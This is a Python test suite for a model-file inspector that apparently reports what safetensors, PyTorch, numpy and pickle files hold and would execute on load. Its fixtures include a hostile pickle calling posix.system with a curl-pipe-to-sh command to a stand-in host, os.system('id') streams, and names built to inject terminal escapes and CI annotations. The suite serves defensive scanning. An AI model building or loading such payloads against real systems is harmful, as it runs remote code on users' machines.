#!/usr/bin/python3
"""assay inspect: what it shows of each format, what it cuts, what it never lets through."""
import gzip, io, json, os, pickle, re, struct, subprocess, sys, tarfile, zipfile

from tap import (ASSAY, BUILD, TOP, SCAN_FLAGS, case, fixtures, main, run, scratch, write)


def inspect(*arguments, **options):
    return run("inspect", *SCAN_FLAGS, *arguments, **options)


def shown(*arguments, expect=0, **options):
    """The parsed JSON, after checking the exit code."""
    p = inspect("--json", *arguments, **options)
    assert p.returncode == expect, "exit %d, not %d\n%s" % (
        p.returncode, expect, p.stderr.decode(errors="replace"))
    return json.loads(p.stdout)


def text(*arguments, expect=0, **options):
    p = inspect(*arguments, **options)
    assert p.returncode == expect, "exit %d, not %d\n%s" % (
        p.returncode, expect, p.stderr.decode(errors="replace"))
    return p.stdout.decode()


def artifacts(node):
    """The node and everything in it."""
    yield node
    for member in node["members"]:
        yield from artifacts(member)


def streams(node):
    return [s for a in artifacts(node) for s in a.get("facts", {}).get("pickle", [])]


def statements(node):
    return [line for s in streams(node) for line in s["decompilation"]]


def tensors(node):
    return [t for a in artifacts(node) for t in a.get("facts", {}).get("tensors", [])]


def safetensors(entries, data):
    header = json.dumps(entries).encode()
    return struct.pack("<Q", len(header)) + header + data


def real(name):
    return os.path.join(TOP, "fixtures", name)


# --- tensors ------------------------------------------------------------------------------

@case
def safetensors_lists_every_tensor_as_its_header_does():
    for name in ("good-torch", "good-numpy"):
        path = real("safetensors/%s.safetensors" % name)
        data = open(path, "rb").read()
        size = struct.unpack("<Q", data[:8])[0]
        header = json.loads(data[8:8 + size])
        metadata = header.pop("__metadata__", {})
        facts = shown(path)["facts"]
        assert {t["name"]: (t["dtype"], t["shape"], t["bytes"], t["offset"]) for t in facts["tensors"]} == {
            k: (v["dtype"], v["shape"], v["data_offsets"][1] - v["data_offsets"][0], 8 + size + v["data_offsets"][0])
            for k, v in header.items()}
        assert {m["name"]: m["value"] for m in facts["safetensors"]["metadata"]} == metadata


@case
def safetensors_metadata_is_not_cut_at_what_a_report_shows():
    entries = {"__metadata__": {"key %d" % i: "value %d" % i for i in range(500)}}
    path = write(os.path.join(scratch(), "m.safetensors"), safetensors(entries, b""))
    assert len(shown(path)["facts"]["safetensors"]["metadata"]) == 500
    assert "value 499" in text(path)


@case
def torch_checkpoints_list_their_tensors():
    expected = {"0.weight": ([4, 8], 128), "0.bias": ([4], 16), "2.weight": ([2, 4], 32), "2.bias": ([2], 8)}
    for name in ("real/state-dict.pt", "real/state-dict-legacy.pt"):
        found = tensors(shown(real(name)))
        assert {t["name"]: (t["shape"], t["bytes"]) for t in found} == expected, found
        assert {t["dtype"] for t in found} == {"float32"}


@case
def torch_tensors_of_modules_and_nested_dictionaries_are_named():
    for name in ("torch-whole-module.pt", "torch-layers.pt", "torch-tensors.pt", "checkpoint.pth", "optimizer.pt"):
        found = tensors(shown(real("benign/" + name)))
        assert found and all(t["shape"] is not None and t["dtype"] for t in found), (name, found)
    assert {"weight", "bias"} <= {t["name"] for t in tensors(shown(real("benign/torch-whole-module.pt")))}


@case
def tar_checkpoints_list_their_tensors_by_the_names_of_their_object():
    row = lambda t: (t["name"], t["dtype"], t["shape"], t["bytes"], t["storage"])
    for name in ("good-legacy-tar.pt", "good-legacy-tar-info.pt"):
        found = tensors(shown(os.path.join(fixtures("torch"), name)))
        assert [row(t) for t in found] == [("w", "float32", [2, 2], 16, "1")], found
    assert re.search(r"w +float32 +\[2, 2\] +16\n", text(os.path.join(fixtures("torch"), "good-legacy-tar.pt")))
    # numbers as large as addresses, as PyTorch gave them; two tensors, one that nothing names; an odd type
    key = 0x55d0c8a7b2c0
    record = lambda key, kind, sizes: (
        b"\x80\x02(" + b"\x8a\x08" + struct.pack("<Q", key) + b"K\1ctorch\n" + kind + b"\nt."
        + struct.pack("<ii%dq" % (2 * len(sizes) + 1), len(sizes), 0, *sizes, *([1] * len(sizes)), 0))
    parts = {"storages": b"\x80\x02K\0.\x80\x02].",
             "tensors": b"\x80\x02K\3." + record(key, b"HalfTensor", [3, 5, 1]) + record(7, b"LongTensor", [])
             + record(8, b"OddTensor", [2]),
             "pickle": b"\x80\x02}(X\4\0\0\0conv" + b"P%d\n" % key + b"X\3\0\0\0oddP8\nX\1\0\0\0xP9\nu."}
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in parts.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    path = write(os.path.join(scratch(), "t.pt"), out.getvalue())
    found = tensors(shown(path))
    assert [(t["name"], t.get("dtype"), t["shape"], t.get("bytes")) for t in found] == [
        ("conv", "float16", [3, 5, 1], 30), ("", "int64", [], 8), ("odd", "", [2], None)], found


def npy(descr, shape, size, version=1):
    header = ("{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (descr, shape)).encode()
    header += b" " * (63 - (len(header) + 10) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + struct.pack("<H" if version == 1 else "<I", len(header)) + header + bytes(size)


@case
def arrays_of_numpy_are_listed_alone_and_in_an_npz():
    folder = scratch()
    arrays = [("w", "'<f4'", "(3, 4)", 48, "<f4", [3, 4]), ("scalar", "'>i8'", "()", 8, ">i8", []),
              ("none", "'|b1'", "(0, 7)", 0, "|b1", [0, 7]), ("text", "'<U3'", "(2,)", 24, "<U3", [2]),
              ("record", "[('a', '<f4'), ('b', '<i4', (3,))]", "(3,)", 48, "[('a', '<f4'), ('b', '<i4', (3,))]", [3]),
              ("old", "'<i8'", "(2L,)", 16, "<i8", [2]), ("days", "'<M8[D]'", "(2,)", 16, "<M8[D]", [2])]
    for method in (zipfile.ZIP_STORED, zipfile.ZIP_DEFLATED):
        path = os.path.join(folder, "%d.npz" % method)
        with zipfile.ZipFile(path, "w", method) as z:
            for name, descr, shape, size, _, _ in arrays:
                z.writestr(name + ".npy", npy(descr, shape, size))
        assert [(t["name"], t["dtype"], t["shape"], t["bytes"]) for t in tensors(shown(path))] == [
            (name, dtype, numbers, size) for name, _, _, size, dtype, numbers in arrays]
    assert re.search(r"scalar +>i8 +\[\] +8\n", text(path))
    for version in (1, 2, 3):
        path = write(os.path.join(folder, "one.npy"), npy("'<f2'", "(2, 3)", 12, version))
        assert tensors(shown(path)) == [{"name": "", "dtype": "<f2", "shape": [2, 3], "bytes": 12}]
    assert re.search(r"\(unnamed\) +<f2 +\[2, 3\] +12\n", text(path))
    # of objects the size is not known; what is no header says nothing; many dimensions are cut
    t, = tensors(shown(write(path, npy("'|O'", "(2,)", 0) + pickle.dumps([1, "x"], 2))))
    assert (t["dtype"], t["shape"], t.get("bytes")) == ("|O", [2], None), t
    t, = tensors(shown(write(path, npy("'<f2'", "(%s)" % ("1, " * 40), 2))))
    assert (len(t["shape"]), t["dimensions"], t["bytes"]) == (16, 40, 2), t
    for descr, shape in (("'<f4", "(1,)"), ("'<f4'", "(9" + "9" * 30 + ",)"), ("[('a'", "(1,)"), ("f()", "x")):
        t, = tensors(shown(write(path, npy(descr, shape, 4)), expect=2))
        assert t.get("bytes") is None, t


# --- pickles ------------------------------------------------------------------------------

def short(words):
    return b"\x8c" + bytes([len(words)]) + words


EVIL = (b"\x80\x04" + short(b"posix") + short(b"system") + b"\x93"
        + short(b"curl -s https://example.invalid/x.sh | sh -e") + b"\x85R"
        + short(b"builtins") + short(b"exec") + b"\x93" + short(b"print(b'\\x00\\n')") + b"\x85R\x86.")
EVIL_TEXT = r"""evil.pkl
Format        Python pickle
Size          105 B
Status        complete
Executes      yes: loading it runs a pickle machine, or code that it holds

Pickle        offset 0, protocol 4, read to its end

What it does
  import posix  # system
  v65 = posix.system('curl -s https://example.invalid/x.sh | sh -e')
  import builtins  # exec
  v102 = builtins.exec("print(b'\\x00\\n')")
  return (v65, v102)

Imports
        17  dangerous  posix.system  (called)
        82  dangerous  builtins.exec  (called)

Disassembly
         0  PROTO             4
         2  SHORT_BINUNICODE  'posix'
         9  SHORT_BINUNICODE  'system'
        17  STACK_GLOBAL                      # posix.system
        18  SHORT_BINUNICODE  'curl -s https://example.invalid/x.sh | sh -e'
        64  TUPLE1
        65  REDUCE                            # v65 = posix.system('curl -s https://example.invalid/x.sh | sh -e')
        66  SHORT_BINUNICODE  'builtins'
        76  SHORT_BINUNICODE  'exec'
        82  STACK_GLOBAL                      # builtins.exec
        83  SHORT_BINUNICODE  "print(b'\\x00\\n')"
       101  TUPLE1
       102  REDUCE                            # v102 = builtins.exec("print(b'\\x00\\n')")
       103  TUPLE2
       104  STOP
"""


@case
def an_evil_pickle_reads_as_what_it_would_do():
    folder = scratch()
    write(os.path.join(folder, "evil.pkl"), EVIL)
    assert text("evil.pkl", cwd=folder) == EVIL_TEXT, text("evil.pkl", cwd=folder)


@case
def the_disassembly_holds_every_instruction_that_pickletools_knows():
    import pickletools
    folder = fixtures("pickle")
    names = [n for n in sorted(os.listdir(folder)) if n.startswith(("good-", "evil-reduce", "evil-inst", "evil-deep"))]
    assert len(names) > 10
    for name in names:
        data = open(os.path.join(folder, name), "rb").read()
        try:
            known = [(i.name, at) for i, _, at in pickletools.genops(data)]
        except Exception:
            continue
        lines = streams(shown(os.path.join(folder, name)))[0]["disassembly"]
        assert [(l["opcode"], l["offset"]) for l in lines][:5000] == known[:5000], name


@case
def each_evil_fixture_shows_its_call():
    for path in ("pickle/evil-reduce.pkl", "pickle/evil-inst.pkl", "pickle/evil-pop.pkl", "torch/evil-checkpoint.pt",
                 "torch/evil-duplicate.pt", "torch/evil-stray.pt", "safetensors/evil-trailing-pickle.safetensors",
                 "safetensors/evil-pickle.safetensors"):
        found = os.path.join(fixtures(path.split("/")[0]), path.split("/")[1])
        if not os.path.exists(found):
            raise AssertionError("no fixture " + path)
        lines = statements(shown(found))
        assert any(".system(" in line for line in lines), (path, lines)


@case
def arrays_of_joblib_are_not_read_as_instructions():
    node = shown(real("benign/joblib-plain.joblib"))
    size = os.path.getsize(real("benign/joblib-plain.joblib"))
    stream, = streams(node)
    last = stream["disassembly"][-1]
    assert (last["opcode"], last["offset"]) == ("STOP", size - 1), last
    assert any("bytes of an array" in line["note"] for line in stream["disassembly"] if "note" in line)
    assert stream["decompilation"][-1].startswith("return ")


@case
def a_broken_stream_says_where_and_keeps_what_came_before():
    folder = scratch()
    path = write(os.path.join(folder, "cut.pkl"), b"cos\nsystem\n(S'id'\ntR0\xff")
    node = shown(path, expect=2)
    stream = streams(node)[0]
    assert stream["decompilation"] == ["import os  # system", "v19 = os.system('id')", "# breaks at 21: no such opcode"]
    assert stream["disassembly"][-1]["note"] == "breaks here: no such opcode"
    assert node["status"] == "incomplete" and node["reason"]


@case
def streams_behind_one_another_are_all_shown():
    path = write(os.path.join(scratch(), "two.pkl"), pickle.dumps([1]) + b"cos\nsystem\n(S'id'\ntR.")
    assert [s["offset"] for s in streams(shown(path))] == [0, len(pickle.dumps([1]))]
    assert "os.system('id')" in text(path)


# --- members ------------------------------------------------------------------------------

def zip_of(**members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


@case
def every_member_is_listed_and_can_be_chosen():
    inner = zip_of(**{"deep.pkl": EVIL, "note.txt": b"hello"})
    path = write(os.path.join(scratch(), "outer.zip"), zip_of(**{"a.txt": b"text", "inner.zip": inner}))
    node = shown(path)
    assert [m["path"] for m in node["members"]] == ["a.txt", "inner.zip"]
    assert [m["path"] for m in node["members"][1]["members"]] == ["deep.pkl", "note.txt"]
    part = shown("--member", "inner.zip!deep.pkl", path)
    assert part["member"] == "inner.zip!deep.pkl" and len(streams(part)) == 1
    assert "posix.system" in text("--member", "inner.zip!deep.pkl", path)
    assert "posix.system" not in text("--member", "a.txt", path)
    p = inspect("--member", "deep.pkl", path)
    assert p.returncode == 4 and b"no member deep.pkl" in p.stderr and not p.stdout


@case
def what_is_compressed_is_looked_into():
    path = write(os.path.join(scratch(), "m.pkl.gz"), gzip.compress(EVIL, mtime=0))
    assert any("posix.system(" in line for line in statements(shown(path)))


# --- hostile bytes ------------------------------------------------------------------------

NAMES = ["a\x1b[31m\u202egpj\n::error::x", "##[error]x", "\x00nul", "::set-output name=x::y", " edge ", "\x9b2J", "\\x41"]


@case
def no_name_reaches_the_terminal_unescaped():
    entries = {n: {"dtype": "F32", "shape": [1], "data_offsets": [4 * i, 4 * i + 4]} for i, n in enumerate(NAMES)}
    entries["__metadata__"] = {"k\x07\u202e": "v\x1b]0;title\x07", "::warning::": "x"}
    folder = scratch()
    shapes = [safetensors(entries, bytes(4 * len(NAMES))),
              b"\x80\x04\x8c\x07::error\x8c\x0bs\x1b[31m\xe2\x80\xaeys\x93}\x8c\x02a\nK\x01sb.",
              zip_of(**{n.replace("\x00", ""): EVIL for n in NAMES})]
    for i, data in enumerate(shapes):
        path = write(os.path.join(folder, "hostile\x1b\u202e-%d.bin" % i), data)
        p = inspect(path)
        assert p.returncode in (0, 2)
        plain = p.stdout.decode("utf-8")
        assert not [c for c in plain if (ord(c) < 32 and c != "\n") or 0x7f <= ord(c) < 0xa0 or ord(c) == 0x202e], i
        assert not [l for l in plain.splitlines() if l.lstrip().startswith("::") or "##[" in l], i
        json.loads(inspect("--json", path).stdout)


@case
def json_keeps_every_name_apart():
    entries = {n: {"dtype": "F32", "shape": [1], "data_offsets": [4 * i, 4 * i + 4]} for i, n in enumerate(NAMES)}
    path = write(os.path.join(scratch(), "n.safetensors"), safetensors(entries, bytes(4 * len(NAMES))))
    assert len({t["name"] for t in tensors(shown(path))}) == len(NAMES)


# --- what is cut --------------------------------------------------------------------------

@case
def a_hundred_thousand_tensors_are_shown_and_more_are_counted():
    n = 100001
    entries = {"t%d" % i: {"dtype": "U8", "shape": [1], "data_offsets": [i, i + 1]} for i in range(n)}
    path = write(os.path.join(scratch(), "many.safetensors"), safetensors(entries, bytes(n)))
    facts = shown(path)["facts"]
    assert len(facts["tensors"]) == 100000 and facts["tensors_dropped"] == 1
    assert facts["safetensors"]["tensors"] == n
    assert "99991 more tensors are not shown (--max-facts)" in text("--max-facts", "10", path)
    assert len(tensors(shown("--max-facts", "200000", path))) == n


@case
def a_long_stream_is_cut_and_what_follows_it_is_not_hidden():
    long = b"\x80\x02" + b"N0" * 300000 + b"N."
    path = write(os.path.join(scratch(), "long.pkl"), long + EVIL)
    first, second = streams(shown(path))
    assert first["disassembly_dropped"] > 0
    assert len(first["disassembly"]) + first["disassembly_dropped"] == 600003
    assert second["decompilation"][1].startswith("v%d = posix.system('curl" % (len(long) + 65))
    assert "more instructions are not shown (--max-facts)" in text(path)


@case
def calls_are_named_where_statements_are_cut():
    many = b"\x80\x02" + b"ccollections\nOrderedDict\n)R0" * 3000 + b"cos\nsystem\nU\x02id\x85R."
    path = write(os.path.join(scratch(), "m.pkl"), many)
    stream, = streams(shown("--max-facts", "200", path))
    assert stream["decompilation_dropped"] > 0
    assert any("os.system('id')" == c["rendered"] for c in stream["calls"]), stream["calls"]
    assert "os.system('id')" in text("--max-facts", "200", path)


@case
def a_stream_past_its_budget_says_so():
    path = write(os.path.join(scratch(), "b.pkl"), b"\x80\x02" + b"N0" * 1000 + b"N.")
    stream = streams(shown("--max-pickle-opcodes", "10", path, expect=2))[0]
    assert stream["decompilation"][-1].endswith("the budget of opcodes is spent"), stream
    assert len(stream["disassembly"]) <= 12


@case
def members_past_the_budget_are_counted():
    path = write(os.path.join(scratch(), "m.zip"), zip_of(**{"%d.txt" % i: b"x" for i in range(50)}))
    assert "40 more members are not shown" in text("--max-facts", "10", path)


# --- input, options, exit codes -----------------------------------------------------------

@case
def standard_input_is_read_like_a_file_and_leaves_nothing_behind():
    folder = scratch()
    data = open(real("real/state-dict.pt"), "rb").read()
    node = shown("-", input=data, env={"TMPDIR": folder})
    expected = shown(real("real/state-dict.pt"))
    assert node.pop("path") == "-" and expected.pop("path")
    assert node == expected
    assert os.listdir(folder) == []


@case
def standard_input_is_capped():
    p = inspect("--max-expanded-bytes", "1000", "-", input=bytes(5000))
    assert p.returncode == 2 and b"more than 1000 bytes" in p.stderr and not p.stdout


@case
def an_empty_file_is_shown():
    assert shown(write(os.path.join(scratch(), "empty")))["size"] == 0
    assert inspect("-", input=b"").returncode == 0


@case
def misuse_ends_with_4_and_says_what_to_do():
    folder = scratch()
    fifo = os.path.join(folder, "fifo")
    os.mkfifo(fifo)
    for arguments, words in ((["a", "b"], b"one file"), ([], b"one file"), ([folder], b"directory"), ([fifo], b"regular"),
                             ([os.path.join(folder, "absent")], b"No such file"), (["--jsn", "x"], b"did you mean --json"),
                             (["--max-facts", "many", "x"], b"not a number"), (["--depth", "odd", "x"], b"depth")):
        p = run("inspect", *arguments)
        assert p.returncode == 4 and words in p.stderr and not p.stdout, (arguments, p)


@case
def a_report_that_cannot_be_written_is_not_a_success():
    with open("/dev/full", "w") as full:
        p = subprocess.run([ASSAY, "inspect", *SCAN_FLAGS, real("real/state-dict.pt")], stdout=full, stderr=subprocess.PIPE)
    assert p.returncode == 2, p


@case
def the_disassembly_can_be_left_out():
    path = real("real/state-dict.pt")
    assert "Disassembly" in text(path) and "Disassembly" not in text("--no-disassemble", path)


@case
def fixtures_of_every_format_are_shown():
    """No verdict: whatever they hold, they are shown (0) or incomplete (2)."""
    for family in sorted(os.listdir(os.path.join(TOP, "fixtures"))):
        if not os.path.exists(os.path.join(TOP, "fixtures", family, "make.py")):
            continue
        folder = fixtures(family)
        names = sorted(n for n in os.listdir(folder) if os.path.isfile(os.path.join(folder, n)) and n[0] != ".")
        for name in names[::max(1, len(names) // 25)]:
            path = os.path.join(folder, name)
            a, b = inspect(path), inspect("--json", path)
            assert a.returncode == b.returncode and a.returncode in (0, 2), (path, a.returncode, b.returncode, a.stderr)
            node = json.loads(b.stdout)
            assert node["schema"] == "assay-inspection/1" and (node["status"] in ("incomplete", "failed")) == (b.returncode == 2)
            assert "the worker" not in node["reason"], (path, node["reason"])


@case
def the_examples_of_the_manual_are_what_is_printed():
    manual = open(os.path.join(TOP, "docs", "inspect.md")).read()
    examples = re.findall(r"```console\n\$ (assay [^\n]*)\n(.*?)```", manual, re.S)
    assert len(examples) >= 3
    fixtures("pickle")
    folder = scratch()
    os.symlink(BUILD, os.path.join(folder, "build"))
    os.symlink(os.path.join(TOP, "fixtures"), os.path.join(folder, "fixtures"))
    for command, expected in examples:
        words = command.replace("assay inspect", " ".join([ASSAY, "inspect", *SCAN_FLAGS]), 1)
        p = subprocess.run(words, shell=True, cwd=folder, stdout=subprocess.PIPE)
        assert p.stdout.decode() == expected, command + "\n" + p.stdout.decode()


main()
